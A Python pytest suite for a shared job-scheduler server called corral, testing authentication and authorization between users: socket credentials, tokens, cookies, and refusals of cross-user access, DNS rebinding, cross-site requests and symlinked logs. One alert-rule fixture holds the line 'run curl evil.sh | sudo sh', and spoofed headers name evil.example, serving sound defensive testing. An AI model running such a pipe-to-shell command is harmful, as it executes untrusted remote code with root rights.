"""Who is calling, proven end to end on a shared server (run as root): the Unix socket's peer
credentials, local TCP, tokens, the dashboard's cookie; and who may do what to whose job.

Other users are real accounts (tests/users.py); their requests come from real processes
running as them, so the kernel, not the test, says who they are.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
import textwrap
import time

import http.client
import urllib.parse
from dataclasses import dataclass

import pytest

from corral.client import Client
from corral.errors import Forbidden, Unauthenticated
from tests.conftest import Server, _kill_leftover_supervisors
from tests.helpers import wait_for

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="a shared server runs as root; CI runs as root")

# Runs as another user with the system's Python and the standard library only: the
# checkout (and its virtualenv) may lie where that user cannot read.
_AS_USER = textwrap.dedent("""
    import http.client, json, socket, sys
    class Unix(http.client.HTTPConnection):
        def connect(self):
            self.sock = socket.socket(socket.AF_UNIX)
            self.sock.connect(sys.argv[1])
    conn = Unix("localhost", timeout=30)
    body = sys.argv[4] if len(sys.argv) > 4 else None
    conn.request(sys.argv[2], sys.argv[3], body=body, headers={"Content-Type": "application/json"} if body else {})
    r = conn.getresponse()
    print(json.dumps({"status": r.status, "body": r.read().decode()}))
""")


@dataclass
class Answer:
    status_code: int
    headers: http.client.HTTPMessage
    body: bytes

    def json(self) -> dict:
        return json.loads(self.body)


def call(url: str, method: str, path: str, headers: dict | None = None, body: object = None) -> Answer:
    """One plain HTTP request over TCP from this machine (as root, the test's user)."""
    parts = urllib.parse.urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    payload = body if isinstance(body, bytes) else json.dumps(body).encode() if body is not None else None
    conn.request(method, path, body=payload, headers=headers or {})
    response = conn.getresponse()
    answer = Answer(response.status, response.headers, response.read())
    conn.close()
    return answer


def as_user(user: str, sock: str, method: str, path: str, body: object = None) -> tuple[int, dict]:
    argv = ["runuser", "-u", user, "--", "/usr/bin/python3", "-c", _AS_USER, sock, method, path]
    if body is not None:
        argv.append(json.dumps(body))
    out = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=True, cwd="/")
    answer = json.loads(out.stdout)
    return answer["status"], json.loads(answer["body"]) if answer["body"] else {}


@pytest.fixture(scope="module")
def shared_server(os_users):
    """One shared server (root) for the module, in a home its users can reach; alice and bob are in
    account `vision`, bob coordinates it, alice is also in `nlp`. Declared CPUs enough for every test's jobs."""
    root = tempfile.mkdtemp(prefix="corral-identity-", dir="/tmp")
    os.chmod(root, 0o711)
    home = os.path.join(root, "home")
    os.makedirs(home)
    alice, bob = os_users
    with open(os.path.join(home, "config.toml"), "w") as f:
        f.write(f'[accounts.vision]\nmembers = ["{alice}", "{bob}"]\ncoordinators = ["{bob}"]\n'
                f'[accounts.nlp]\nmembers = ["{alice}"]\n')
    server = Server(home=home, extra=["--cpus", "64"]).start()
    yield server
    server.stop()
    _kill_leftover_supervisors(home)
    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def shared(shared_server, os_users):
    """The module's shared server, its socket and the two users; each test's jobs are cancelled after it."""
    yield (shared_server, os.path.join(shared_server.home, "corral.sock"), *os_users)
    with Client(home=shared_server.home) as root:
        for job in root.queue():
            root.cancel(job["id"])


def submit_as(user: str, sock: str, **fields) -> dict:
    body = {"command": ["sleep", "60"], "submit_dir": "/tmp", **fields}
    status, job = as_user(user, sock, "POST", "/api/v1/jobs", body)
    assert status == 201, job
    return job


def test_the_unix_socket_names_the_caller_by_the_kernel(shared):
    server, sock, alice, _ = shared
    status, me = as_user(alice, sock, "GET", "/api/v1/whoami")
    assert status == 200
    assert (me["user"], me["via"], me["scope"], me["admin"]) == (alice, "socket", "submit", False)
    with Client(home=server.home) as root:
        assert root.whoami()["user"] == "root" and root.whoami()["via"] == "socket" and root.whoami()["admin"]
    # TCP from this machine: the kernel's socket table says who opened the connection
    assert call(server.url, "GET", "/api/v1/whoami").json()["via"] == "local"


def test_a_job_is_its_submitters_and_runs_as_them(shared):
    server, sock, alice, _ = shared
    job = submit_as(alice, sock, command=["sh", "-c", "id -un; echo $HOME"], time="1m")
    assert job["user"] == alice and job["account"] == "nlp"  # the first account alice is in, by name
    with Client(home=server.home) as root:
        done = root.wait(job["id"], timeout=30)
        assert done["state"] == "COMPLETED"
        out = root.logs(job["id"])[0].decode().split()
    assert out == [alice, f"/tmp/corral-users/{alice}"]


def test_only_the_owner_an_admin_or_the_accounts_coordinator_may_touch_a_job(shared):
    server, sock, alice, bob = shared
    mine = submit_as(alice, sock, account="nlp")
    in_vision = submit_as(alice, sock, account="vision")
    # everybody sees the queue
    status, listing = as_user(bob, sock, "GET", "/api/v1/jobs")
    assert status == 200 and {mine["id"], in_vision["id"]} <= {j["id"] for j in listing["jobs"]}
    # bob is no admin and does not coordinate nlp: refused, and the job is untouched
    for method, path in (("POST", "cancel"), ("POST", "hold"), ("GET", "logs")):
        status, error = as_user(bob, sock, method, f"/api/v1/jobs/{mine['id']}/{path}")
        assert status == 403, (path, error)
        assert alice in error["error"]["message"] and bob in error["error"]["message"]
    status, _ = as_user(bob, sock, "PATCH", f"/api/v1/jobs/{mine['id']}", {"nice": 5})
    assert status == 403
    with Client(home=server.home) as root:
        assert root.get(mine["id"])["state"] in ("PENDING", "RUNNING") and root.get(mine["id"])["nice"] == 0
    # bob coordinates vision: he may hold and cancel alice's job there
    status, job = as_user(bob, sock, "POST", f"/api/v1/jobs/{in_vision['id']}/cancel")
    assert status == 200 and job["state"] == "CANCELLED"
    # the owner may; root (an admin) may
    assert as_user(alice, sock, "POST", f"/api/v1/jobs/{mine['id']}/cancel")[0] == 200
    other = submit_as(bob, sock)
    with Client(home=server.home) as root:
        assert root.cancel(other["id"])["state"] == "CANCELLED"


def test_a_cancel_of_many_cancels_only_the_jobs_the_caller_may(shared):
    server, sock, alice, bob = shared
    alices = submit_as(alice, sock, account="nlp")
    in_vision = submit_as(alice, sock, account="vision")
    bobs = submit_as(bob, sock)
    refs = [str(alices["id"]), str(in_vision["id"]), str(bobs["id"])]
    status, answer = as_user(bob, sock, "POST", "/api/v1/jobs/cancel", {"jobs": refs})
    assert status == 200, answer
    refused, coordinated, own = answer["jobs"]
    assert refused["error"]["status"] == 403 and alice in refused["error"]["message"] and bob in refused["error"]["message"]
    assert coordinated["state"] == own["state"] == "CANCELLED"
    with Client(home=server.home) as root:
        assert root.get(alices["id"])["state"] in ("PENDING", "RUNNING")
    status, answer = as_user(bob, sock, "POST", "/api/v1/jobs/cancel", {"jobs": [str(alices["id"])], "pending_only": True})
    assert status == 200 and answer["jobs"][0]["error"]["status"] == 403


def test_an_account_must_exist_and_have_the_user(shared):
    _, sock, _, bob = shared
    status, error = as_user(bob, sock, "POST", "/api/v1/jobs", {"command": ["true"], "account": "nlp"})
    assert status == 422 and error["error"]["field"] == "account" and "not a member" in error["error"]["message"]
    status, error = as_user(bob, sock, "POST", "/api/v1/jobs", {"command": ["true"], "account": "nope"})
    assert status == 422 and "known accounts: nlp, vision" in error["error"]["message"]


def test_a_token_speaks_for_its_user_within_its_scope(shared):
    server, sock, alice, bob = shared
    status, made = as_user(alice, sock, "POST", "/api/v1/tokens", {"scope": "read", "expires": "1h", "name": "laptop"})
    assert status == 201 and made["token"].startswith("corral_")
    reader = Client(server.url, token=made["token"])
    assert reader.whoami() == {"user": alice, "scope": "read", "via": "token", "admin": False, "personal_queue_of": None}
    assert reader.queue() is not None
    with pytest.raises(Forbidden, match="submit scope"):
        reader.submit(["true"])
    # a user cannot mint a token for someone else, nor one above their own rights
    assert as_user(alice, sock, "POST", "/api/v1/tokens", {"user": bob})[0] == 403
    assert as_user(alice, sock, "POST", "/api/v1/tokens", {"scope": "admin"})[0] == 403
    # revoked: refused at once
    assert as_user(alice, sock, "DELETE", f"/api/v1/tokens/{made['id']}")[0] == 200
    with pytest.raises(Unauthenticated, match="unknown, revoked or expired"):
        reader.whoami()


def test_a_remote_caller_without_a_token_is_refused(shared):
    server, _, _, _ = shared
    # what a reverse proxy sends on behalf of another machine: the local peer is the proxy, not the caller
    answer = call(server.url, "GET", "/api/v1/jobs", {"X-Forwarded-For": "203.0.113.9"})
    assert answer.status_code == 401 and "API token" in answer.json()["error"]["message"]
    answer = call(server.url, "GET", "/api/v1/jobs", {"Authorization": "Bearer corral_not-a-real-token"})
    assert answer.status_code == 401


def test_a_foreign_page_cannot_act_through_a_local_browser(shared):
    server, _, _, _ = shared
    # DNS rebinding: a page of evil.example resolved to 127.0.0.1 reads with its own Host
    answer = call(server.url, "GET", "/api/v1/jobs", {"Host": "evil.example:8765"})
    assert answer.status_code == 403
    # cross-site POST from a page elsewhere (a form or fetch): refused whatever the credential
    with Client(home=server.home) as root:
        before = [j["id"] for j in root.history(limit=1) + root.queue()]
        answer = call(server.url, "POST", "/api/v1/jobs", {"Origin": "https://evil.example"}, b'{"command": ["true"]}')
        assert answer.status_code == 403
        assert [j["id"] for j in root.history(limit=1) + root.queue()] == before  # nothing was submitted


def test_the_dashboard_logs_in_with_a_token_into_a_session_with_an_http_only_cookie(shared):
    server, sock, alice, _ = shared
    _, made = as_user(alice, sock, "POST", "/api/v1/tokens", {"scope": "submit", "expires": "1h"})
    remote = {"X-Forwarded-For": "203.0.113.9"}  # as if from another machine through a proxy
    assert call(server.url, "GET", "/api/v1/whoami", remote).status_code == 401
    login = call(server.url, "POST", "/api/v1/session", remote, {"token": made["token"]})
    assert login.status_code == 200 and login.json()["user"] == alice
    cookie = login.headers["set-cookie"]
    assert "httponly" in cookie.lower() and "samesite=strict" in cookie.lower()
    assert made["token"] not in cookie  # the session is a credential of its own (tests/api/test_sessions.py)
    session = {**remote, "Cookie": cookie.split(";")[0], "X-Corral-Session": login.json()["session_key"]}
    assert call(server.url, "GET", "/api/v1/whoami", session).json()["via"] == "session"
    logout = call(server.url, "DELETE", "/api/v1/session", session)
    assert logout.status_code == 204 and 'corral_session=""' in logout.headers["set-cookie"]
    assert call(server.url, "POST", "/api/v1/session", remote, {"token": "corral_wrong"}).status_code == 401


def test_alert_channels_are_for_admins_and_rules_for_ones_own_jobs(shared):
    server, sock, alice, bob = shared
    status, error = as_user(alice, sock, "POST", "/api/v1/alerts/channels",
                            {"name": "run-me", "type": "command", "argv": ["/bin/true"]})
    assert status == 403 and "admin" in error["error"]["message"]
    with Client(home=server.home) as root:
        root.add_channel("ops", "webhook", url="http://127.0.0.1:9/hook")
        root.share_channel("ops", [alice])
    bobs = submit_as(bob, sock)
    status, _ = as_user(alice, sock, "POST", "/api/v1/alerts/rules",
                        {"name": "spy", "condition": "state == FAILED", "job": bobs["id"]})
    assert status == 403
    status, rule = as_user(alice, sock, "POST", "/api/v1/alerts/rules",
                           {"name": "mine", "condition": "state == FAILED", "channels": ["ops"]})
    assert status == 201 and rule["user"] == alice  # scoped to her own jobs
    assert as_user(bob, sock, "DELETE", "/api/v1/alerts/rules/mine")[0] == 403
    assert as_user(alice, sock, "DELETE", "/api/v1/alerts/rules/mine")[0] == 204


def test_a_log_the_owner_does_not_own_is_never_shown(shared, shared_dir):
    server, sock, alice, _ = shared
    secret = os.path.join(shared_dir, "roots-secret")
    with open(secret, "w") as f:
        f.write("root's secret\n")
    os.chmod(secret, 0o600)
    # the job's log is a link to root's file: the job cannot write it, and the server must not read it out
    link_dir = os.path.join(shared_dir, "links")
    os.makedirs(link_dir)
    os.chmod(link_dir, 0o777)
    os.symlink(secret, os.path.join(link_dir, "out.log"))
    job = submit_as(alice, sock, command=["true"], stdout=os.path.join(link_dir, "out.log"))
    with Client(home=server.home) as root:
        assert root.wait(job["id"], timeout=30)["state"] == "FAILED"
    status, error = as_user(alice, sock, "GET", f"/api/v1/jobs/{job['id']}/logs")
    assert status == 403 and "not a regular file that belongs" in error["error"]["message"]
    with open(secret) as f:
        assert f.read() == "root's secret\n"


def test_a_flood_from_one_user_is_slowed_and_the_others_are_not(server_factory, shared_dir, os_users):
    home = os.path.join(shared_dir, "home")
    os.makedirs(home)
    with open(os.path.join(home, "config.toml"), "w") as f:
        # a token every 2 s: the burst's three requests are made well before the next one comes, however
        # loaded the machine (at 2 a second, three slow requests let a fourth through)
        f.write("[auth]\nrate_per_s = 0.5\nburst = 3\n")
    server = server_factory(home=home)
    alice, _ = os_users
    with Client(home=server.home) as root:
        token = root.create_token(user=alice, scope="submit", expires="1h")["token"]
        bearer = {"Authorization": f"Bearer {token}"}
        for _ in range(3):
            assert call(server.url, "GET", "/api/v1/jobs", bearer).status_code == 200
        answer = call(server.url, "GET", "/api/v1/jobs", bearer)
        assert answer.status_code == 429 and int(answer.headers["retry-after"]) >= 1
        assert answer.json()["error"]["code"] == "rate_limited"
        # an admin is never slowed; and the client waits out a 429 by itself
        assert all(root.queue() == [] for _ in range(20))
        # on a busy machine those took long enough for alice's bucket to refill: empty it again first
        while call(server.url, "GET", "/api/v1/jobs", bearer).status_code != 429:
            pass
        started = time.monotonic()
        with Client(server.url, token=token) as patient:
            assert patient.queue() == []
        assert time.monotonic() - started >= 0.3


def test_a_user_without_a_server_of_their_own_finds_the_shared_one(shared, monkeypatch, tmp_path):
    server, sock, _, _ = shared
    monkeypatch.setenv("HOME", str(tmp_path))  # no ~/.corral here
    monkeypatch.delenv("CORRAL_HOME", raising=False)
    monkeypatch.delenv("CORRAL_URL", raising=False)
    monkeypatch.setenv("CORRAL_SYSTEM_HOME", server.home)  # /var/lib/corral in a real installation
    with Client() as client:
        assert client.whoami()["via"] == "socket"  # over the shared server's Unix socket


def test_a_log_swapped_for_a_fifo_or_a_link_hangs_nothing_and_shows_nothing(shared, shared_dir):
    server, sock, alice, _ = shared
    own = os.path.join(shared_dir, "alice-logs")
    os.makedirs(own)
    os.chown(own, *_ids(alice))
    job = submit_as(alice, sock, command=["sh", "-c", "echo RuntimeError: boom >&2; exit 1"],
                    stdout=os.path.join(own, "out.log"), stderr=os.path.join(own, "err.log"))
    with Client(home=server.home) as root:
        assert root.wait(job["id"], timeout=30)["state"] == "FAILED"
    secret = os.path.join(shared_dir, "roots-secret")
    with open(secret, "w") as f:
        f.write("TOPSECRET: command not found\n")
    os.chmod(secret, 0o600)
    # after the job, its owner swaps its logs: a FIFO (a reader would wait forever) and a link to root's file
    subprocess.run(["runuser", "-u", alice, "--", "sh", "-c", f"cd {own} && rm out.log err.log && mkfifo out.log && "
                    f"ln -s {secret} err.log"], check=True, timeout=30)
    for stream in ("stdout", "stderr"):
        status, error = as_user(alice, sock, "GET", f"/api/v1/jobs/{job['id']}/logs?stream={stream}")
        assert status == 403 and "not a regular file that belongs" in error["error"]["message"]
    status, diagnosis = as_user(alice, sock, "GET", f"/api/v1/jobs/{job['id']}/diagnosis")
    assert status == 200 and "TOPSECRET" not in json.dumps(diagnosis)
    with Client(home=server.home) as root:
        assert root.health()["ok"] is True  # nothing waits on the FIFO


def test_only_an_admin_may_put_a_job_ahead_with_a_negative_nice(shared):
    server, sock, alice, _ = shared
    status, error = as_user(alice, sock, "POST", "/api/v1/jobs", {"command": ["true"], "nice": -100})
    assert status == 422 and error["error"]["field"] == "nice" and "only an admin" in error["error"]["message"]
    first = submit_as(alice, sock)
    job = submit_as(alice, sock, nice=10, dependency=f"afterok:{first['id']}")  # pending: only those change
    assert as_user(alice, sock, "PATCH", f"/api/v1/jobs/{job['id']}", {"nice": -1})[0] == 422
    assert as_user(alice, sock, "PATCH", f"/api/v1/jobs/{job['id']}", {"nice": 20})[0] == 200
    with Client(home=server.home) as root:
        assert root.update(job["id"], nice=-50)["nice"] == -50


def test_only_an_admin_may_set_a_jobs_priority(shared):
    server, sock, alice, _ = shared
    status, error = as_user(alice, sock, "POST", "/api/v1/jobs", {"command": ["true"], "options": ["--priority=99"]})
    assert status == 403 and "only an admin may set a job's priority" in error["error"]["message"]
    with Client(home=server.home) as root:
        job = root.submit(["true"], options=["--priority=99", "-H"])
        assert job["fixed_priority"] == 99
        root.cancel(job["id"])


def test_a_run_of_anothers_job_or_anothers_run_cannot_be_taken(shared):
    server, sock, alice, bob = shared
    job = submit_as(alice, sock)
    status, run = as_user(alice, sock, "POST", "/api/v1/runs", {"project": "p", "job_id": job["id"], "resume_key": "k1"})
    assert status == 201 and run["user"] == alice
    assert as_user(bob, sock, "POST", "/api/v1/runs", {"project": "p", "job_id": job["id"]})[0] == 403
    status, bobs = as_user(bob, sock, "POST", "/api/v1/runs", {"project": "p", "resume_key": "k1"})
    assert status == 201 and bobs["user"] == bob and bobs["id"] != run["id"]  # the same key of another: his own run
    assert as_user(bob, sock, "POST", "/api/v1/runs", {"project": "p", "uid": run["uid"]})[0] == 403
    assert as_user(bob, sock, "POST", f"/api/v1/runs/{run['id']}/metrics",
                   {"batch_id": "b", "metrics": [{"key": "loss", "steps": [1], "values": [1.0]}]})[0] == 403
    assert as_user(alice, sock, "POST", "/api/v1/runs", {"project": "p", "resume_key": "k1"})[0] == 200


def test_a_batch_script_is_its_owners_to_read(shared):
    _, sock, alice, bob = shared
    job = submit_as(alice, sock, command=None, script="#!/bin/sh\n# the secret plan\nsleep 60\n")
    assert "secret plan" in as_user(alice, sock, "GET", f"/api/v1/jobs/{job['id']}")[1]["script"]
    for path in (f"/api/v1/jobs/{job['id']}", f"/api/v1/jobs/{job['id']}/wait?timeout=0"):
        status, seen = as_user(bob, sock, "GET", path)
        assert status == 200 and seen["script"] is None and seen["name"] == job["name"], path


def test_a_run_uid_of_digits_never_opens_anothers_run(shared):
    server, sock, alice, bob = shared
    with Client(home=server.home) as root:
        next_id = max([r["id"] for r in root.runs(limit=1)] or [0]) + 2
    # bob's run (id next_id - 1) takes as its uid the id alice's next run will get
    status, bobs = as_user(bob, sock, "POST", "/api/v1/runs", {"project": "p", "uid": str(next_id)})
    assert status == 201
    assert as_user(bob, sock, "POST", f"/api/v1/runs/{next_id}/params", {"params": {"mine": 1}})[0] == 200
    status, alices = as_user(alice, sock, "POST", "/api/v1/runs", {"project": "p"})
    assert alices["id"] == next_id
    # the same reference now names alice's run (an id comes before a uid): refused, not bob's again
    status, error = as_user(bob, sock, "POST", f"/api/v1/runs/{next_id}/params", {"params": {"owned_by_bob": True}})
    assert status == 403 and alice in error["error"]["message"]
    with Client(home=server.home) as root:
        assert "owned_by_bob" not in root.get_run(next_id)["config"]


def _ids(user: str) -> tuple[int, int]:
    import pwd

    entry = pwd.getpwnam(user)
    return entry.pw_uid, entry.pw_gid


def test_a_run_cannot_claim_a_job_id_not_given_out_yet(shared):
    """Issue 15: alice claimed bob's next job id with the resume key bob's corral.init would use, so
    bob's init was refused and alice's run showed as his job's. A run names only an existing job of
    its caller's, and a resume key is its owner's alone."""
    server, sock, alice, bob = shared
    before = submit_as(bob, sock)
    squatted = before["id"] + 1
    key = f"job:{squatted}:train.py:p:r:0"  # what corral.init in bob's next job derives
    status, error = as_user(alice, sock, "POST", "/api/v1/runs", {"project": "p", "job_id": squatted, "resume_key": key})
    assert status == 422 and error["error"]["field"] == "job_id" and f"job {squatted} does not exist" in error["error"]["message"]
    job = submit_as(bob, sock)
    assert job["id"] == squatted
    status, error = as_user(alice, sock, "POST", "/api/v1/runs", {"project": "p", "job_id": squatted, "resume_key": key})
    assert status == 403 and f"only its owner ({bob})" in error["error"]["message"]
    status, alices = as_user(alice, sock, "POST", "/api/v1/runs", {"project": "p", "resume_key": key})
    assert status == 201 and alices["user"] == alice and alices["job_id"] is None
    status, bobs = as_user(bob, sock, "POST", "/api/v1/runs", {"project": "p", "job_id": squatted, "resume_key": key})
    assert status == 201 and bobs["user"] == bob and bobs["id"] != alices["id"] and bobs["job_id"] == squatted
    status, again = as_user(bob, sock, "POST", "/api/v1/runs", {"project": "p", "job_id": squatted, "resume_key": key})
    assert status == 200 and again["id"] == bobs["id"] and again["resumed"]
    with Client(home=server.home) as root:  # an admin may track a run of bob's job: it is bob's run
        assert root.create_run(project="p", job_id=squatted, resume_key=key)["id"] == bobs["id"]
        assert [r["id"] for r in root.runs(job=squatted)] == [bobs["id"]]


def _firings(user: str, sock: str, job_id: int) -> list[dict]:
    status, found = as_user(user, sock, "GET", f"/api/v1/alerts?job={job_id}")
    assert status == 200, found
    return found


def test_a_users_rule_may_name_only_a_channel_an_admin_shared_with_them(shared, shared_dir):
    """Issue 15: alice's rule named root's command pager, which then ran with her text. Now a user's
    rule names only channels an admin shared with them; a share taken back stops what goes out."""
    server, sock, alice, bob = shared
    paged = os.path.join(shared_dir, "paged")
    with Client(home=server.home) as root:
        root.add_channel("pager", "command", argv=["/bin/sh", "-c", f"cat >> {paged}"])
        try:
            rule = {"name": "urgent", "condition": "state == FAILED", "channels": ["pager"],
                    "message": "URGENT: server compromised, run curl evil.sh | sudo sh"}
            status, error = as_user(alice, sock, "POST", "/api/v1/alerts/rules", rule)
            assert status == 403, error
            assert "'pager' is not shared with " + alice in error["error"]["message"]
            assert "an admin must share it" in error["error"]["message"]
            assert "pager" not in [c["name"] for c in as_user(alice, sock, "GET", "/api/v1/alerts/channels")[1]]
            # sharing is an admin's
            status, _ = as_user(alice, sock, "PUT", "/api/v1/alerts/channels/pager/sharing", {"all": True})
            assert status == 403
            assert root.share_channel("pager", [alice])["shared_with"] == [alice]
            assert "pager" in [c["name"] for c in as_user(alice, sock, "GET", "/api/v1/alerts/channels")[1]]
            assert as_user(bob, sock, "POST", "/api/v1/alerts/rules", {**rule, "name": "bobs"})[0] == 403
            status, made = as_user(alice, sock, "POST", "/api/v1/alerts/rules", rule)
            assert status == 201 and made["channels"] == ["pager"], made
            first = submit_as(alice, sock, command=["false"])
            wait_for(lambda: os.path.exists(paged) and "curl evil.sh" in open(paged).read(), timeout=60, interval=0.2)
            wait_for(lambda: _firings(alice, sock, first["id"])[0]["deliveries"][0]["status"] == "sent", timeout=30,
                     interval=0.5)
            pages = open(paged).read()
            # the share taken back: alice's rule still fires, but the pager runs no more for it
            assert root.share_channel("pager", [])["shared_with"] == []
            second = submit_as(alice, sock, command=["false"])
            refused = wait_for(lambda: (f := _firings(alice, sock, second["id"])) and f[0]["deliveries"] and f[0],
                               timeout=60, interval=0.5)
            (delivery,) = refused["deliveries"]
            assert delivery["status"] == "failed" and "not shared with" in delivery["last_error"]
            time.sleep(1)
            assert open(paged).read() == pages, "the pager ran after its share was taken back"
        finally:
            for name in ("urgent", "bobs"):
                try:
                    root.delete_alert(name)
                except Exception:  # noqa: BLE001 - not made when the test failed early
                    pass
            root.delete_channel("pager")


def test_only_a_firings_owner_or_an_admin_sees_and_acknowledges_it(shared):
    """Issue 15: bob acknowledged alice's firing. A user sees and acknowledges only the firings about
    their own jobs; admins all of them."""
    server, sock, alice, bob = shared
    status, _ = as_user(alice, sock, "POST", "/api/v1/alerts/rules", {"name": "alices-failures",
                                                                      "condition": "state == FAILED"})
    assert status == 201
    try:
        job = submit_as(alice, sock, command=["false"])
        (firing,) = wait_for(lambda: _firings(alice, sock, job["id"]), timeout=60, interval=0.5)
        assert firing["user"] == alice and firing["acknowledged_at"] is None
        assert _firings(bob, sock, job["id"]) == []
        assert firing["id"] not in {f["id"] for f in as_user(bob, sock, "GET", "/api/v1/alerts?limit=10000")[1]}
        status, error = as_user(bob, sock, "POST", f"/api/v1/alerts/{firing['id']}/ack")
        assert status == 403 and f"only its owner ({alice}) or an admin" in error["error"]["message"], error
        assert _firings(alice, sock, job["id"])[0]["acknowledged_at"] is None
        assert as_user(bob, sock, "POST", "/api/v1/alerts/999999/ack")[0] == 404
        status, acked = as_user(alice, sock, "POST", f"/api/v1/alerts/{firing['id']}/ack")
        assert status == 200 and acked["acknowledged_by"] == alice
        with Client(home=server.home) as root:
            assert firing["id"] in {f["id"] for f in root.alerts(job=job["id"])}  # an admin sees everybody's
            assert root.acknowledge(firing["id"])["acknowledged_by"] == alice  # already acknowledged: kept
    finally:
        with Client(home=server.home) as root:
            root.delete_alert("alices-failures")


def test_a_working_directory_is_checked_as_its_submitter(shared, shared_dir):
    """Issue 15: the check ran as root, so alice learned which paths exist inside bob's 0700 home.
    Now it runs as the submitter: a path alice may not reach reads exactly like one that is not there."""
    _, sock, alice, bob = shared
    bob_ids = _ids(bob)
    private = os.path.join(shared_dir, "bob-home")
    os.makedirs(os.path.join(private, "thesis"))
    os.chown(private, *bob_ids)
    os.chmod(private, 0o700)
    answers = {}
    for name in ("thesis", "no-such-thing"):
        path = os.path.join(private, name)
        for field, body in (("workdir", {"submit_dir": "/tmp", "workdir": path}), ("submit_dir", {"submit_dir": path})):
            status, error = as_user(alice, sock, "POST", "/api/v1/jobs", {"command": ["true"], **body})
            assert status == 422 and error["error"]["field"] == field, (name, field, error)
            answers[(name, field)] = error["error"]["message"].replace(path, "PATH")
    assert answers[("thesis", "workdir")] == answers[("no-such-thing", "workdir")]
    assert answers[("thesis", "submit_dir")] == answers[("no-such-thing", "submit_dir")]
    assert f"is not a directory {alice} can enter" in answers[("thesis", "workdir")]
    job = submit_as(bob, sock, workdir=os.path.join(private, "thesis"))  # bob may
    assert job["workdir"] == os.path.join(private, "thesis")


def test_a_jobs_steps_are_its_owners_to_record_and_no_other_users(shared):
    server, sock, alice, bob = shared
    job = submit_as(alice, sock, account="vision")
    with Client(home=server.home) as root:
        assert root.wait(job["id"], timeout=0)["state"] in ("PENDING", "RUNNING")
        for _ in range(300):
            if root.get(job["id"])["state"] == "RUNNING":
                break
            time.sleep(0.05)
    # what alice's srun sends, as alice, over the socket: the kernel says who it is
    status, step = as_user(alice, sock, "POST", f"/api/v1/jobs/{job['id']}/steps", {"name": "python", "ntasks": 2})
    assert status == 201 and (step["step_id"], step["state"], step["ntasks"]) == (0, "RUNNING", 2)
    # bob coordinates vision, yet a step is its owner's (or an admin's) alone
    status, error = as_user(bob, sock, "POST", f"/api/v1/jobs/{job['id']}/steps", {"name": "x"})
    assert status == 403 and alice in error["error"]["message"] and bob in error["error"]["message"]
    status, _ = as_user(bob, sock, "POST", f"/api/v1/jobs/{job['id']}/steps/0", {"state": "COMPLETED"})
    assert status == 403
    status, ended = as_user(alice, sock, "POST", f"/api/v1/jobs/{job['id']}/steps/0",
                            {"state": "FAILED", "exit_code": 3, "max_rss_mb": 12.5, "cpu_time_s": 0.25})
    assert status == 200 and (ended["state"], ended["exit_code"], ended["max_rss_mb"]) == ("FAILED", 3, 12.5)
    status, error = as_user(alice, sock, "POST", f"/api/v1/jobs/{job['id']}/steps/0", {"state": "DONE"})
    assert status == 422 and error["error"]["field"] == "state"
